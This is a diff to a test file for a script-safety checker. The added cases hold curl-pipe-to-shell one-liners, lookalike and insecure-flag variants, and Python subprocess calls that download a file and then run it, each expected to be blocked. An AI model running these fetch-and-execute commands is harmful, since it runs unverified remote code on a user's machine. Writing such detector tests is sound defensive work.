@@ -20,6 +20,11 @@ describe('a shell script', () => {
     'curl -s --connect-to ::example.invalid: https://astral.sh/uv/install.sh | sh',
     'curl -s example.invalid/x https://astral.sh/uv/install.sh | sh',
     'curl -s https://astral.sh/uv/../../x | sh',
+    'curl -sk https://astral.sh/uv/install.sh | sh',
+    'curl -s https://starship.rs/install.shady | sh',
+    'curl -s https://x.get.docker.com/ | sh',
+    `curl -so /tmp/x.py ${U}; python3 /tmp/x.py`,
+    `curl -so x.sh ${U}; bash -o pipefail x.sh`,
   ])('that runs what it fetched is stopped: %s', async (text) => {
     expect(await decision('a.sh', `#!/bin/bash\n${text}\n`)).toBe('block');
   });
@@ -44,6 +49,10 @@ describe('a shell script', () => {
 describe('a Python program that starts curl', () => {
   it.each([
     [`from subprocess import run\nrun(["curl", "-o", "/tmp/x", "${U}"])\nrun(["/tmp/x"])\n`, 'block'],
+    [
+      `from subprocess import run\nrun(["sudo", "-u", "me", "curl", "-o", "/tmp/x", "${U}"])\nrun(["/tmp/x"])\n`,
+      'block',
+    ],
     [`import os\nos.system("curl -o /tmp/x ${U}")\nos.system("sh /tmp/x")\n`, 'block'],
     [
       `from subprocess import run\nrun(["curl", "-o", "/tmp/x", "${U}"])\nrun(["tar", "xf", "/tmp/x"])\n`,
